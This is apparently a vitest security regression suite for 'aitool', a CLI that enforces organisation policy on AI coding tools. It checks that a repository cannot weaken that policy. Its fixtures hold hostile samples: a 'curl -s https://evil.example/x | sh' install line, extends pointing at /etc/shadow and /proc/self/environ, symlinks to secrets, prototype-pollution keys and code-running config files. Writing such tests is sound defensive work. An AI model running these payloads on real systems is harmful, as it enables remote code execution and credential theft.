// The managed floor against a repository that tries to remove it: each case
// is a reproduction from the adversarial review of fea35eb (issue 9), run
// through the built CLI with a managed policy and, where the verdict is the
// point, a real process that only this test started.
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CATALOG } from '../../src/catalog/index.js';
import { installNativeBinary, killSpawned, spawnNativeBinary, waitForExe, type SpawnedProcess } from '../helpers/processes.js';
import { json, makeWorld, runCli, type World } from './run-cli.js';

interface Report {
  findings: Array<{ tool: string; kind: string; action: string; reason?: string; message?: string; alternatives?: Array<{ id: string; install?: string }>; evidence: { pid?: number } }>;
  terminations?: Array<{ pid: number; tool: string; outcome: string }>;
  policy?: { warnings?: Array<{ file?: string; key?: string; message: string }> };
}

const MANAGED = `default: warn
tools:
  claude-code:
    action: block
    reason: Source code may not leave the company's data boundary.
    message: Use Qoder, our approved assistant.
    alternatives: [house-assistant]
alternatives:
  house-assistant:
    name: House Assistant
    install: brew install acme/tap/house-assistant
`;

let world: World;
let agent: SpawnedProcess | undefined;
beforeEach(() => {
  world = makeWorld();
  mkdirSync(join(world.cwd, '.git'));
  world.write('managed/policy.yaml', MANAGED);
});
afterEach(async () => {
  await killSpawned();
  agent = undefined;
  world.cleanup();
});

/** A Claude Code native install that only this test runs: ~/.local/share/claude/versions/<v>. */
async function startAgent(): Promise<SpawnedProcess> {
  const binary = await installNativeBinary(join(world.home, '.local/share/claude/versions/2.0.50'));
  agent = await spawnNativeBinary(binary);
  await waitForExe(agent.pid, binary);
  return agent;
}

const check = (args: string[] = [], env: Record<string, string> = {}) =>
  runCli(['check', '--format', 'json', ...args], world, { AITOOL_NO_CACHE: '1', ...env }, { timeoutMs: 20_000 });
const ofAgent = (report: Report) => report.findings.filter((f) => f.evidence.pid === agent?.pid);
const oneLine = (stderr: string) => {
  expect(stderr.trim().split('\n')).toHaveLength(1);
  expect(stderr).not.toMatch(/\n\s+at |Error:/);
};

describe('1. no repository code runs inside aitool', () => {
  const marker = () => join(world.root, 'code-ran');
  const body = (extra = '') => `require('node:fs').writeFileSync(${JSON.stringify(join(world.root, 'code-ran'))}, 'x'); ${extra} process.exit(0);\n`;

  it.each([
    ['.aitoolrc.cjs', () => body()],
    ['.aitoolrc.js', () => `import fs from 'node:fs'; fs.writeFileSync(${JSON.stringify(join(world.root, 'code-ran'))}, 'x'); process.exit(0);\n`],
    ['.aitoolrc.mjs', () => `process.env.AITOOL_MANAGED_POLICY = '/dev/null'; process.exit(0);\n`],
    ['aitool.config.cjs', () => body()],
    ['.config/aitoolrc.cjs', () => body()],
  ])('%s is refused on a machine with a managed policy: exit 2, one line, nothing ran', async (name, text) => {
    await startAgent();
    world.write(`repo/${name}`, text());
    const result = await check();
    expect(result.exitCode).toBe(2);
    oneLine(result.stderr);
    expect(result.stderr).toContain(`${join(world.cwd, name)}: policies written as code are not run on a machine with an organisation policy`);
    expect(existsSync(marker())).toBe(false);
  });

  it('an extends to a .cjs file or to an npm package whose main is code is refused too', async () => {
    world.write('repo/base.cjs', body());
    world.write('repo/.aitoolrc.yaml', 'extends: ./base.cjs\n');
    const viaFile = await check();
    expect(viaFile.exitCode).toBe(2);
    expect(viaFile.stderr).toContain(`${join(world.cwd, 'base.cjs')}: policies written as code are not run`);

    world.write('repo/node_modules/evil-policy/package.json', JSON.stringify({ name: 'evil-policy', main: 'index.js' }));
    world.write('repo/node_modules/evil-policy/index.js', body());
    world.write('repo/.aitoolrc.yaml', 'extends: evil-policy\n');
    const viaPackage = await check();
    expect(viaPackage.exitCode).toBe(2);
    expect(viaPackage.stderr).toContain('policies written as code are not run');
    expect(existsSync(marker())).toBe(false);
  });

  it("cosmiconfig's meta-config (.config/config.cjs in the working folder) never runs", async () => {
    // Nothing blocked, so the exit code does not depend on what else runs on this machine.
    world.write('managed/policy.yaml', 'default: warn\n');
    world.write('repo/.config/config.cjs', body());
    world.write('repo/.aitoolrc.yaml', 'tools:\n  cursor: warn\n');
    const result = await check();
    expect(result.exitCode, result.stderr).toBe(0);
    expect(json<{ policy: { files: Array<{ file: string }> } }>(result).policy.files.map((f) => f.file)).toContain(join(world.cwd, '.aitoolrc.yaml'));
    expect(existsSync(marker())).toBe(false);
  });

  it('without a managed policy, code runs in a separate, sandboxed process: its exit cannot end aitool, and it can neither write nor start programs', async () => {
    await startAgent();
    // No managed layer at all for this case.
    rmSync(join(world.root, 'managed/policy.yaml'));
    const env = {};
    world.write('repo/.aitoolrc.cjs', `module.exports = { tools: { 'claude-code': 'block' } };\n`);
    const ok = await check([], env);
    expect(ok.exitCode, ok.stderr).toBe(1);
    expect(ofAgent(json<Report>(ok)).map((f) => f.action)).toEqual(['block']);

    world.write('repo/.aitoolrc.cjs', body());
    const exits = await check([], env);
    expect(exits.exitCode).toBe(2);
    oneLine(exits.stderr);
    expect(exits.stderr).toContain(join(world.cwd, '.aitoolrc.cjs'));
    expect(existsSync(marker())).toBe(false);

    world.write('repo/.aitoolrc.cjs', `require('node:child_process').execFileSync('touch', [${JSON.stringify(marker())}]);\nmodule.exports = {};\n`);
    const spawns = await check([], env);
    expect(spawns.exitCode).toBe(2);
    expect(spawns.stderr).toContain('cannot write, start programs or load addons');
    expect(existsSync(marker())).toBe(false);

    world.write('repo/.aitoolrc.cjs', 'for (;;) {}\n');
    const loops = await check([], env);
    expect(loops.exitCode).toBe(2);
    expect(loops.stderr).toContain('did not finish within 3 s');
  });
});

describe('4. $import in package.json', () => {
  it('is refused, and the file it names is never loaded', async () => {
    world.write('repo/loosen.cjs', `require('node:fs').writeFileSync(${JSON.stringify(join(world.root, 'code-ran'))}, 'x'); module.exports = { default: 'allow' };\n`);
    world.write('repo/package.json', JSON.stringify({ name: 'app', aitool: { $import: './loosen.cjs', tools: { cursor: 'block' } } }));
    const result = await check();
    expect(result.exitCode).toBe(2);
    oneLine(result.stderr);
    expect(result.stderr).toContain(`${join(world.cwd, 'package.json')}: $import: not supported in aitool policies; use extends`);
    expect(existsSync(join(world.root, 'code-ran'))).toBe(false);
  });
});

describe('5 and 6. the managed words and terminate settings stand', () => {
  it('a repository cannot switch off a managed terminate given on the category', async () => {
    // Only a process this test starts may be stopped: the blocked, terminating
    // category holds one tool that matches a token no other process carries,
    // and every catalog tool in it is allowed.
    const token = `aitool-trust-agent-${process.pid}-${Date.now()}`;
    const binary = await installNativeBinary(join(world.root, 'bin', 'house-agent'));
    agent = await spawnNativeBinary(binary, [token]);
    await waitForExe(agent.pid, binary);
    const agentCli = CATALOG.filter((tool) => tool.category === 'agent-cli').map((tool) => `  ${tool.id}: allow`);
    world.write(
      'managed/policy.yaml',
      [
        'categories:',
        '  agent-cli:',
        '    action: block',
        '    terminate: true',
        'tools:',
        ...agentCli,
        'customTools:',
        '  - id: house-agent',
        '    name: House agent',
        '    vendor: Test',
        '    homepage: https://example.com',
        '    category: agent-cli',
        '    signatures:',
        `      processes: { args: ['${token}'] }`,
        '',
      ].join('\n'),
    );
    world.write('repo/.aitoolrc.yaml', 'tools:\n  house-agent:\n    terminate: false\n');
    const report = json<Report>(await check());
    expect(report.terminations?.map((t) => [t.pid, t.tool, t.outcome])).toEqual([[agent.pid, 'house-agent', 'stopped']]);
    expect(report.policy?.warnings).toContainEqual(expect.objectContaining({ key: 'tools.house-agent.terminate' }));
  });

  it("a repository cannot rewrite the managed reason, message, alternatives or the alternative's install command", async () => {
    await startAgent();
    world.write(
      'repo/.aitoolrc.yaml',
      [
        'tools:',
        '  claude-code:',
        '    reason: Approved for this repository.',
        '    message: Commit with --no-verify.',
        '    alternatives: [helper]',
        'alternatives:',
        '  house-assistant:',
        '    name: House Assistant',
        '    install: curl -s https://evil.example/x | sh',
        '  helper:',
        '    name: Helper',
        '',
      ].join('\n'),
    );
    const result = await check();
    expect(result.exitCode).toBe(1);
    const report = json<Report>(result);
    const [finding] = ofAgent(report);
    expect(finding).toMatchObject({
      action: 'block',
      reason: "Source code may not leave the company's data boundary.",
      message: 'Use Qoder, our approved assistant.',
      alternatives: [{ id: 'house-assistant', install: 'brew install acme/tap/house-assistant' }],
    });
    expect(report.policy?.warnings?.map((w) => w.key)).toEqual(
      expect.arrayContaining(['tools.claude-code.reason', 'tools.claude-code.message', 'tools.claude-code.alternatives', 'alternatives.house-assistant']),
    );
    const text = await runCli(['check', '--no-color'], world, { AITOOL_NO_CACHE: '1' });
    expect(text.stdout).not.toContain('evil.example');
    expect(text.stdout).not.toContain('--no-verify');
  });
});

describe('8. extends cannot read files that are not policies', () => {
  it.each([['/proc/self/environ'], ['/etc/shadow'], ['/etc/hostname']])('extends: %s is refused without quoting the file', async (target) => {
    world.write('repo/.aitoolrc.yaml', `extends: ${target}\n`);
    const result = await check([], { SECRET_TOKEN: 'sk-live-0123456789' });
    expect(result.exitCode).toBe(2);
    oneLine(result.stderr);
    expect(result.stderr).toContain('is not a policy file');
    expect(result.stderr).not.toContain('sk-live');
    expect(result.stderr).not.toMatch(/root:/);
  });

  it('a committed symlink behind a relative extends, or as the policy file itself, is refused', async () => {
    world.write('secret', 'api_key: sk-live-0123456789\n');
    symlinkSync(join(world.root, 'secret'), join(world.cwd, 'base.yaml'));
    world.write('repo/.aitoolrc.yaml', 'extends: ./base.yaml\n');
    const viaExtends = await check();
    expect(viaExtends.exitCode).toBe(2);
    expect(viaExtends.stderr).toContain(`it is a link to ${join(world.root, 'secret')}, which is not a policy file`);
    expect(viaExtends.stderr).not.toContain('sk-live');

    symlinkSync('/proc/self/environ', join(world.cwd, '.aitoolrc'));
    const viaRc = await check([], { SECRET_TOKEN: 'sk-live-0123456789' });
    expect(viaRc.exitCode).toBe(2);
    expect(viaRc.stderr).not.toContain('sk-live');
  });

  it('a FIFO named like a policy file is refused instead of blocking', async () => {
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [join(world.cwd, '.aitoolrc.yaml')]);
    const result = await check();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('not a regular file');
  });
});

describe('12. big policies are bounded and parsed in linear time', () => {
  it('a project file over 1 MiB is refused', async () => {
    world.write('repo/.aitoolrc.yaml', `# ${'x'.repeat(1024 * 1024)}\ndefault: allow\n`);
    const result = await check();
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('larger than 1024 KiB');
  });

  it('100,000 keys in just under 1 MiB are answered in seconds, not minutes', async () => {
    const lines = ['mcp:', '  servers:'];
    for (let i = 0, size = 0; size < 1000 * 1024; i++) {
      const line = `    s${i}: warn`;
      lines.push(line);
      size += line.length + 1;
    }
    lines.push('    s1: block');
    world.write('repo/.aitoolrc.yaml', `${lines.join('\n')}\n`);
    const result = await check([], {});
    // Killed at 20 s by `check`; the duplicate must be named, not waited out.
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain("duplicate key 's1'");
  });

  it('a JSON duplicate key is refused like a YAML one, in the managed layer too', async () => {
    world.write('managed/policy.yaml', '');
    const managedJson = world.write('managed-json/policy.json', '{"tools": {"claude-code": "block"}, "tools": {}}');
    const result = await check([], { AITOOL_MANAGED_POLICY: managedJson });
    expect(result.exitCode).toBe(2);
    expect(result.stderr.trim()).toBe(`aitool: ${managedJson}: malformed JSON at 1:37: duplicate key 'tools'`);
  });
});

describe('15 and the rest. keys and settings that are not policy', () => {
  it.each([
    ['mcp.servers.constructor', 'mcp:\n  servers:\n    constructor: block\n', 'mcp.servers.constructor'],
    ['tools.__proto__', '{"tools": {"__proto__": {"action": "allow"}}}', 'tools.__proto__'],
    ['alternatives.prototype', 'alternatives:\n  prototype:\n    name: X\n', 'alternatives.prototype'],
  ])('%s is refused with one line', async (_, text, key) => {
    world.write(text.startsWith('{') ? 'repo/.aitoolrc.json' : 'repo/.aitoolrc.yaml', text);
    const result = await check();
    expect(result.exitCode).toBe(2);
    oneLine(result.stderr);
    expect(result.stderr).toContain(`${key}: '${key.split('.').pop()}' is a reserved word`);
  });

  it('a YAML complex key is an error, not a Node warning', async () => {
    world.write('repo/.aitoolrc.yaml', '? [a, b]\n: block\n');
    const result = await check();
    expect(result.exitCode).toBe(2);
    oneLine(result.stderr);
    expect(result.stderr).toContain('a key must be plain text');
  });

  it('a relative AITOOL_MANAGED_POLICY is an error rather than a file inside the repository', async () => {
    world.write('repo/policy.yaml', 'default: allow\n');
    const result = await check([], { AITOOL_MANAGED_POLICY: 'policy.yaml' });
    expect(result.exitCode).toBe(2);
    expect(result.stderr.trim()).toBe('aitool: AITOOL_MANAGED_POLICY: must be an absolute path, got a relative one (it would resolve inside the current folder)');
  });
});

describe('3 and 7. the policy cache cannot be turned against its reader', () => {
  /** The cache trusts no file changed in the last two seconds (ctime cannot be set back), so wait that out. */
  const policyFilesAged = () => new Promise((resolve) => setTimeout(resolve, 2100));

  it("root with a user's HOME keeps no cache there, so planted temp-file symlinks receive nothing", async () => {
    // The user (uid 65534) owns HOME and has planted symlinks where a
    // predictable temp file would go, aimed at a file only root may write.
    const victim = world.write('victim', 'untouched\n');
    chmodSync(victim, 0o600);
    const cache = join(world.home, '.cache', 'aitool');
    mkdirSync(cache, { recursive: true });
    for (let n = 1; n < 50; n++) symlinkSync(victim, join(cache, `policy-${'0'.repeat(24)}.json.${n}.tmp`));
    for (const dir of [world.home, join(world.home, '.cache'), cache]) chownSync(dir, 65534, 65534);
    world.write('managed/policy.yaml', 'default: warn\n');
    world.write('repo/.aitoolrc.yaml', 'tools:\n  cursor: warn\n');
    await policyFilesAged();
    const result = await runCli(['check', '--format', 'json'], world, {}, { timeoutMs: 20_000 });
    expect(result.exitCode, result.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
    expect(readdirSync(cache).filter((name) => !name.endsWith('.tmp'))).toEqual([]);

    // The control: the same run with the folders root's own does keep an entry.
    for (const dir of [world.home, join(world.home, '.cache'), cache]) chownSync(dir, 0, 0);
    chmodSync(cache, 0o700);
    expect((await runCli(['check', '--format', 'json'], world)).exitCode).toBe(0);
    expect(readdirSync(cache).filter((name) => !name.endsWith('.tmp'))).toHaveLength(1);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
  });

  it('in its own private folder the cache is written 0600 through an exclusive temp file, and a symlink at the entry name is replaced, not followed', async () => {
    const victim = world.write('victim', 'untouched\n');
    world.write('managed/policy.yaml', 'default: warn\n');
    world.write('repo/.aitoolrc.yaml', 'tools:\n  cursor: warn\n');
    await policyFilesAged();
    const first = await runCli(['check', '--format', 'json'], world);
    expect(first.exitCode, first.stderr).toBe(0);
    const cache = join(world.home, '.cache', 'aitool');
    const entries = readdirSync(cache);
    expect(entries).toHaveLength(1);
    expect(statSync(join(cache, entries[0]!)).mode & 0o777).toBe(0o600);
    expect(statSync(cache).mode & 0o077).toBe(0);

    // Replace the entry with a symlink to the victim: the reader must not follow it, the writer must not write through it.
    const { rmSync } = await import('node:fs');
    rmSync(join(cache, entries[0]!));
    symlinkSync(victim, join(cache, entries[0]!));
    const second = await runCli(['check', '--format', 'json'], world);
    expect(second.exitCode, second.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
  });
});

describe('held: what the review found already holding stays held', () => {
  const loosen = 'default: allow\ntools:\n  claude-code: allow\n';
  it.each([
    ['the project file', { 'repo/.aitoolrc.yaml': loosen }, []],
    ['package.json', { 'repo/package.json': JSON.stringify({ name: 'app', aitool: { default: 'allow', tools: { 'claude-code': 'allow' } } }) }, []],
    ['.config/aitoolrc.json', { 'repo/.config/aitoolrc.json': JSON.stringify({ tools: { 'claude-code': 'allow' } }) }, []],
    ['the user layer', { 'home/.config/aitool/config.yaml': loosen }, []],
    ['--policy', { 'elsewhere/loose.yaml': loosen }, ['--policy', '../elsewhere/loose.yaml']],
    ['an extends chain', { 'repo/.aitoolrc.yaml': 'extends: ./sub/base.yaml\n', 'repo/sub/base.yaml': loosen }, []],
    ['overridable set from the repository', { 'repo/.aitoolrc.yaml': 'tools:\n  claude-code: { action: allow, overridable: true }\n' }, []],
    ['a YAML merge key', { 'repo/.aitoolrc.yaml': 'base: &loose\n  claude-code: allow\ntools:\n  <<: *loose\n' }, []],
  ])('a loosening through %s leaves the running agent blocked', async (_, files, args) => {
    await startAgent();
    for (const [file, text] of Object.entries(files)) world.write(file, text);
    const result = await check(args);
    if (result.exitCode === 2) {
      // Refusing the file outright holds the floor too, as long as it says why in one line.
      oneLine(result.stderr);
      return;
    }
    expect(result.exitCode, result.stderr).toBe(1);
    expect(ofAgent(json<Report>(result)).map((f) => f.action)).toEqual(['block']);
  });

  it('a custom tool may not take a catalog id, $import in YAML is refused, and a look-alike id gets a did-you-mean', async () => {
    world.write('repo/.aitoolrc.yaml', 'customTools:\n  - { id: claude-code, name: X, vendor: X, homepage: x, category: agent-cli, signatures: {} }\n');
    const taken = await check();
    expect(taken.exitCode).toBe(2);
    expect(taken.stderr).toContain("customTools[0].id: 'claude-code' is already a catalog tool id");
    world.write('repo/.aitoolrc.yaml', '$import: ./other.yaml\n');
    expect((await check()).stderr).toContain('$import: not supported in aitool policies; use extends');
    world.write('repo/.aitoolrc.yaml', 'tools:\n  claude-cod: allow\n');
    const lookAlike = await check();
    expect(lookAlike.exitCode).toBe(2);
    expect(lookAlike.stderr).toContain("(did you mean 'claude-code'?)");
  });
});

describe('11. nothing blocks on a FIFO', () => {
  it('the commit-msg hook handed a FIFO as its message file answers at once', async () => {
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [join(world.cwd, 'message')]);
    const result = await runCli(['hook', 'run', 'commit-msg', 'message'], world, {}, { timeoutMs: 10_000 });
    expect(result.exitCode).toBe(2);
    expect(result.stderr.trim()).toBe(`aitool: ${join(world.cwd, 'message')}: cannot read the commit message (not a regular file)`);
  });
});
